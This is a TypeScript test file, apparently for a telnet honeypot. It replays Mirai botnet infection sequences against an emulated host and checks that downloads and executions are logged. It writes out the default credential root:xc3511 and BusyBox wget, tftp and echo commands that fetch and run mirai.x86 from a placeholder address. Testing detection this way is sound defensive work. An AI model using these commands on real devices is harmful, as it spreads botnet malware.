import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'
import { after, before, describe, test } from 'node:test'
import { type Host, inertElf, infect as infectAny, type Loader, octetLines, play, startHost } from './telnet-loader.ts'

const X86_64 = 62
const infect = (loader: Loader, user: string, password: string) => infectAny(loader, user, password, X86_64)
const sha256 = (data: Buffer) => createHash('sha256').update(data).digest('hex')

type Upload = { path: string; sample: { sha256: string }; fate?: string }
type Download = { url: string; tool: string; commandLine: string }

describe('Mirai', () => {
  let host: Host
  before(async () => {
    host = await startHost({ access: { rules: ['root:xc3511'] } })
  })
  after(() => host.close())
  const seen = <T>(name: string) => host.events.filter(event => event.name === name).map(event => event.details as T)

  test('by wget', async () => {
    await play(host, async loader => {
      const { wget, tftp } = await infect(loader, 'root', 'xc3511')
      assert.ok(wget && tftp)
      await loader.query(
        '/bin/busybox wget http://203.0.113.66:80/bins/mirai.x86 -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper',
        'ECCHI',
      )
      await loader.query('./dvrHelper telnet.x86', 'IHCCE')
      await loader.query('rm -rf upnp; > dvrHelper', 'ECCHI')
    })
    const [download] = seen<Download>('fileDownload')
    assert.equal(download?.url, 'http://203.0.113.66:80/bins/mirai.x86')
    assert.equal(download.tool, 'busybox wget')
  })

  test('by tftp', async () => {
    await play(host, async loader => {
      await infect(loader, 'root', 'xc3511')
      await loader.query(
        '/bin/busybox tftp -g -l dvrHelper -r mirai.x86 203.0.113.66; /bin/busybox chmod 777 dvrHelper',
        'ECCHI',
      )
      loader.send('./dvrHelper telnet.x86')
    })
    assert.ok(
      seen<Download>('fileDownload').some(({ url }) => url === 'tftp://203.0.113.66/mirai.x86'),
      JSON.stringify(seen('fileDownload')),
    )
  })

  test('by echo', async () => {
    const dropper = inertElf(X86_64, 64, 1100)
    let folder = ''
    await play(host, async loader => {
      folder = (await infect(loader, 'root', 'xc3511')).folder
      await loader.query('/bin/busybox cp dvrHelper upnp; > upnp; /bin/busybox chmod 777 upnp', 'ECCHI')
      for (const [at, octets] of octetLines(dropper, 128).entries())
        await loader.query(`/bin/busybox echo -ne '${octets}' ${at === 0 ? '>' : '>>'} upnp`, 'ECCHI')
      await loader.query('./upnp > dvrHelper; ./dvrHelper telnet.x86', 'IHCCE')
    })
    const sample = seen<Upload>('execution').find(({ path }) => path === `${folder}/upnp`.replace('//', '/'))
    assert.equal(sample?.sample.sha256, sha256(dropper))
  })
})
